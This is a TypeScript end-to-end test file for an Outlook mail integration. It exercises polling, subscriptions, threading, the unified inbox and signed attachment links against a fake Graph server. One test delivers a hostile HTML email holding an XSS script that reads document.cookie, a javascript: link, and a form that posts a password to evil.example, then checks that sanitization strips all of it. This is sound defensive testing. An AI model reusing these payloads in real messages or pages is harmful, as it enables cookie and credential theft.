import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { OutlookRuntime } from '../../../src/providers/outlook/index.js';
import { OutlookPoller } from '../../../src/providers/outlook/poller.js';
import { startFakeGraph, type FakeGraph, type FakeGraphUser, type GraphMailMessage } from '../../../testkit/fakes/graph/index.js';
import { outlookServerSettings } from '../../../testkit/fakes/graph/outlook-fixture.js';
import { graphql } from '../../../testkit/gql/index.js';
import { startLiveServer, type LiveServer } from '../../../testkit/subscriptions.js';

/**
 * End to end over a real port with the Outlook definition as the server runs it (src/providers/index.ts):
 * alice's mailbox connected in the store (as the OAuth flow stores it) and her account linked, the per-folder
 * delta poller, the ingest path and a graphql-ws subscriber. Mail arriving in the fake reaches alice as
 * MESSAGE_CREATED resolved through the Outlook provider, with its reply tree; bob, not linked to the
 * mailbox, gets nothing of it. The schema reads the mailbox's folders and threads.
 */

const MailboxQuery = graphql(`
  query OutlookMailbox {
    workspaces { id provider name capabilities { threadModel readState search } channels(first: 50) { nodes { id name type } } }
  }
`);

const SendMail = graphql(`
  mutation OutlookSendMail($input: SendMessageInput!) {
    sendMessage(input: $input) {
      message { id subject text parent { id } author { email } recipients { to { email } cc { email } } }
      userErrors { code message field }
    }
  }
`);

const Thread = graphql(`
  query OutlookThread($id: ID!) {
    node(id: $id) {
      ... on Message {
        subject
        replyCount
        children(first: 10) { nodes { id text author { name email } parent { id } } }
        descendants(first: 10) { nodes { id } }
      }
    }
  }
`);

const MailWithAttachments = graphql(`
  query OutlookAttachments($id: ID!) {
    node(id: $id) { ... on Message { html text attachments { filename contentType sizeBytes url } } }
  }
`);

const UnifiedInbox = graphql(`
  query OutlookUnifiedInbox($after: String) {
    messages(first: 3, after: $after) {
      nodes { id createdAt workspace { provider } }
      pageInfo { hasNextPage endCursor }
    }
  }
`);

describe('Outlook mail to graphql-ws subscribers', () => {
  let fake: FakeGraph;
  let live: LiveServer;
  let alice: FakeGraphUser;
  let runtime: OutlookRuntime;
  let workspaceId: string;

  beforeAll(async () => {
    fake = await startFakeGraph({ displayName: 'Acme' });
    const { tenant } = fake;
    const app = tenant.addApp();
    alice = tenant.addUser('Alice Chen', { mailNickname: 'alice' });
    fake.mail.mailbox(alice.id);
    live = await startLiveServer('pglite', { connections: outlookServerSettings(fake, app) });
    const services = live.testApp.started.services;
    const { store } = services.connections;
    const refreshToken = tenant.issueRefreshToken(app.clientId, alice.id, ['Mail.ReadWrite']).token;
    await store.save(
      {
        provider: 'outlook',
        workspaceId: alice.id,
        name: `Alice Chen <${alice.mail}>`,
        webUrl: 'https://outlook.office.com/mail/',
        appId: tenant.tenantId,
        botUserId: alice.mail,
        credentials: { accessToken: 'unused', expiresAt: new Date(0), refreshToken, webhookSecret: 'client-state' },
        eventDelivery: 'POLL',
      },
      null,
    );
    const account = await services.database.db.selectFrom('accounts').select('id').where('email', '=', 'alice@acme.test').executeTakeFirstOrThrow();
    await store.link({ provider: 'outlook', workspaceId: alice.id, accountId: account.id, externalUserId: alice.id, userToken: refreshToken, linkedVia: 'OAUTH' });
    services.connections.changed({ provider: 'outlook', workspaceId: alice.id });
    runtime = services.registry.require('outlook').runtime as OutlookRuntime;

    const directory = await live.http('demo-alice', MailboxQuery);
    const workspace = directory.data!.workspaces.find((candidate) => candidate.provider === 'OUTLOOK')!;
    expect(workspace).toMatchObject({ name: `Alice Chen <${alice.mail}>`, capabilities: { threadModel: 'TREE', readState: 'NATIVE', search: 'NATIVE' } });
    expect(workspace.channels.nodes.map((channel) => channel.name)).toEqual(expect.arrayContaining(['Inbox', 'Sent Items', 'Deleted Items']));
    expect(workspace.channels.nodes.every((channel) => channel.type === 'MAILBOX')).toBe(true);
    workspaceId = workspace.id;
    const bob = await live.http('demo-bob', MailboxQuery);
    expect(bob.data!.workspaces.some((candidate) => candidate.provider === 'OUTLOOK')).toBe(false);
    // The first round is the baseline of every folder.
    expect(await runtime.poller.pollOnce()).toMatchObject({ workspaces: 1, published: 0 });
  });
  afterEach(async () => {
    await live?.disposeClients();
  });
  afterAll(async () => {
    await live?.close();
    await fake?.close();
  });

  it('mail arriving in the fake reaches alice as MESSAGE_CREATED with its place in the reply tree; bob gets nothing', async () => {
    const aliceStream = await live.subscribe('demo-alice', { filter: { workspaceIds: [workspaceId] } });
    const bobStream = await live.subscribe('demo-bob');
    const carol = { name: 'Carol Partner', address: 'carol@partner.example' };
    const root: GraphMailMessage = fake.mail.deliver(alice.id, { from: carol, to: [{ address: alice.mail }], subject: 'Launch', body: '<p>Is the launch on the <b>14th</b>?</p>' });
    expect(await runtime.poller.pollOnce()).toMatchObject({ published: 1 });
    const event = await aliceStream.events.next('the Inbox MESSAGE_CREATED');
    expect(event).toMatchObject({
      type: 'MESSAGE_CREATED',
      workspace: { id: workspaceId },
      channel: { name: 'Inbox' },
      message: { text: 'Is the launch on the 14th?', author: { name: 'Carol Partner' }, parent: null, deletedAt: null },
    });
    fake.mail.deliver(alice.id, { from: carol, to: [{ address: alice.mail }], subject: 'Re: Launch', body: 'Or the 15th', inReplyTo: root.internetMessageId, references: [root.internetMessageId], conversationId: root.conversationId });
    await runtime.poller.pollOnce();
    const reply = await aliceStream.events.next('the reply');
    expect(reply).toMatchObject({ type: 'MESSAGE_CREATED', message: { text: 'Or the 15th', parent: { id: event.message!.id }, threadRoot: { id: event.message!.id } } });
    expect(bobStream.events.history).toHaveLength(0);
  });

  it('sends and answers mail through the schema: the reply keeps the thread and the tree reads back', async () => {
    const inbox = (await live.http('demo-alice', MailboxQuery)).data!.workspaces.find((candidate) => candidate.provider === 'OUTLOOK')!.channels.nodes.find((channel) => channel.name === 'Inbox')!;
    const sent = await live.http('demo-alice', SendMail, { input: { channelId: inbox.id, subject: 'Plans', text: 'Shall we meet?', to: ['Dan <dan@partner.example>'], cc: ['erin@partner.example'] } });
    expect(sent.data!.sendMessage.userErrors).toEqual([]);
    const mail = sent.data!.sendMessage.message!;
    expect(mail).toMatchObject({ subject: 'Plans', text: 'Shall we meet?', parent: null, author: { email: alice.mail.toLowerCase() }, recipients: { to: [{ email: 'dan@partner.example' }], cc: [{ email: 'erin@partner.example' }] } });
    // Dan answers from outside; the mail arrives in alice's Inbox with the headers of a reply.
    const stored = [...fake.mail.mailbox(alice.id).messages.values()].find((message) => message.subject === 'Plans')!;
    const answer = fake.mail.deliver(alice.id, { from: { name: 'Dan Partner', address: 'dan@partner.example' }, to: [{ address: alice.mail }], subject: 'RE: Plans', body: 'Tuesday works', inReplyTo: stored.internetMessageId, references: [stored.internetMessageId], conversationId: stored.conversationId });
    const thread = await live.http('demo-alice', Thread, { id: mail.id });
    expect(thread.data!.node).toMatchObject({ subject: 'Plans', replyCount: 1, children: { nodes: [{ text: 'Tuesday works', author: { name: 'Dan Partner', email: 'dan@partner.example' }, parent: { id: mail.id } }] } });
    const answerId = (thread.data!.node as { children: { nodes: Array<{ id: string }> } }).children.nodes[0].id;
    const reply = await live.http('demo-alice', SendMail, { input: { channelId: inbox.id, parentId: answerId, text: 'See you then' } });
    expect(reply.data!.sendMessage.userErrors).toEqual([]);
    expect(reply.data!.sendMessage.message).toMatchObject({ subject: 'RE: Plans', parent: { id: answerId }, recipients: { to: [{ email: 'dan@partner.example' }] } });
    const replied = [...fake.mail.mailbox(alice.id).messages.values()].find((message) => message.id !== answer.id && message.internetMessageHeaders.some((header) => header.name === 'In-Reply-To' && header.value === answer.internetMessageId))!;
    expect(replied.parentFolderId).toBe(fake.mail.folder(fake.mail.mailbox(alice.id), 'sentitems').id);
    const tree = await live.http('demo-alice', Thread, { id: mail.id });
    expect((tree.data!.node as { descendants: { nodes: unknown[] } }).descendants.nodes).toHaveLength(2);
  });

  it('the unified inbox mixes Outlook mail with the built-in workspace, newest first, and its cursor resumes', async () => {
    const all = await live.http('demo-alice', graphql(`query OutlookInboxAll { messages(first: 12) { nodes { id createdAt workspace { provider } } } }`));
    const everything = all.data!.messages.nodes;
    expect(new Set(everything.map((message) => message.workspace.provider))).toEqual(new Set(['OUTLOOK', 'BUILTIN']));
    const times = everything.map((message) => Date.parse(message.createdAt as string));
    expect([...times].sort((a, b) => b - a)).toEqual(times);
    const pages: string[] = [];
    let after: string | null = null;
    for (let n = 0; n < 4; n++) {
      const page: { data?: { messages: { nodes: Array<{ id: string }>; pageInfo: { endCursor?: string | null } } } | null } = await live.http('demo-alice', UnifiedInbox, { after });
      pages.push(...page.data!.messages.nodes.map((message: { id: string }) => message.id));
      after = page.data!.messages.pageInfo.endCursor ?? null;
    }
    expect(pages).toEqual(everything.map((message) => message.id));
  });

  it('a restarted poller continues from the delta positions stored in the database: no new baseline, each change once', async () => {
    // Whatever earlier cases left unpolled is published by the first round of a fresh poller (a restart).
    await new OutlookPoller(runtime.server, runtime.workspaces).pollOnce();
    const positions = await runtime.poller.positions.load(alice.id);
    const inbox = fake.mail.folder(fake.mail.mailbox(alice.id), 'inbox').id;
    expect(JSON.parse(positions.get(`folder:${inbox}`)!)).toMatchObject({ baseline: false });
    expect([...positions.keys()]).not.toContain(`folder:${fake.mail.folder(fake.mail.mailbox(alice.id), 'drafts').id}`);

    const stream = await live.subscribe('demo-alice', { filter: { workspaceIds: [workspaceId] } });
    fake.mail.deliver(alice.id, { from: { address: 'frank@partner.example' }, to: [{ address: alice.mail }], subject: 'After the restart', body: 'still here' });
    expect(await new OutlookPoller(runtime.server, runtime.workspaces).pollOnce()).toMatchObject({ workspaces: 1, published: 1 });
    expect(await stream.events.next('the mail after the restart')).toMatchObject({ type: 'MESSAGE_CREATED', channel: { name: 'Inbox' }, message: { text: 'still here' } });
    expect(await new OutlookPoller(runtime.server, runtime.workspaces).pollOnce()).toMatchObject({ published: 0 });
  });

  it('serves attachments through signed links streamed from Graph, and hostile HTML arrives sanitized', async () => {
    const bytes = Buffer.from('%PDF-1.4 quarterly numbers');
    const mail = fake.mail.deliver(alice.id, {
      from: { address: 'mallory@evil.example' },
      to: [{ address: alice.mail }],
      subject: 'Invoice',
      body: '<p onmouseover="steal()">Pay <a href="javascript:alert(1)">here</a><script>document.cookie</script><img src="cid:logo"></p><form action="https://evil.example/post"><input name="pw"></form>',
      attachments: [
        { name: 'invoice.pdf', contentType: 'application/pdf', contentBytes: bytes.toString('base64') },
        { name: 'logo.png', contentType: 'image/png', contentBytes: Buffer.from('png-bytes').toString('base64'), isInline: true, contentId: 'logo' },
      ],
    });
    const workspace = (await live.http('demo-alice', MailboxQuery)).data!.workspaces.find((candidate) => candidate.provider === 'OUTLOOK')!;
    const page = await live.http('demo-alice', graphql(`query OutlookInboxIds($id: ID!) { node(id: $id) { ... on Channel { messages(first: 5) { nodes { id subject } } } } }`), { id: workspace.channels.nodes.find((channel) => channel.name === 'Inbox')!.id });
    const id = (page.data!.node as { messages: { nodes: Array<{ id: string; subject: string | null }> } }).messages.nodes.find((message) => message.subject === 'Invoice')!.id;
    const read = await live.http('demo-alice', MailWithAttachments, { id });
    const node = read.data!.node as { html: string; text: string; attachments: Array<{ filename: string; contentType: string; sizeBytes: number; url: string }> };
    expect(node.html).not.toMatch(/script|onmouseover|javascript:|<form|<input/i);
    expect(node.text).toContain('Pay');
    expect(node.attachments.map((attachment) => [attachment.filename, attachment.sizeBytes])).toEqual([['invoice.pdf', bytes.length], ['logo.png', 9]]);
    const link = new URL(node.attachments[0].url);
    expect(link.pathname).toMatch(/^\/files\/.+\/download$/);
    fake.resetCalls();
    const download = await fetch(`http://127.0.0.1:${live.port}${link.pathname}${link.search}`);
    expect(download.status).toBe(200);
    expect(download.headers.get('content-disposition')).toContain('invoice.pdf');
    expect(download.headers.get('content-length')).toBe(String(bytes.length));
    expect(Buffer.from(await download.arrayBuffer())).toEqual(bytes);
    // Its name and type without the bytes, then the bytes streamed from `/$value`.
    expect(fake.count('mail.attachment.get')).toBe(1);
    expect(fake.count('mail.attachment.value')).toBe(1);
    // A tampered link is refused before Graph is asked.
    const forged = await fetch(`http://127.0.0.1:${live.port}${link.pathname}?exp=${link.searchParams.get('exp')}&sig=forged`);
    expect(forged.status).toBe(403);
    expect(fake.count('mail.attachment.get')).toBe(1);
    void mail;
  });
});
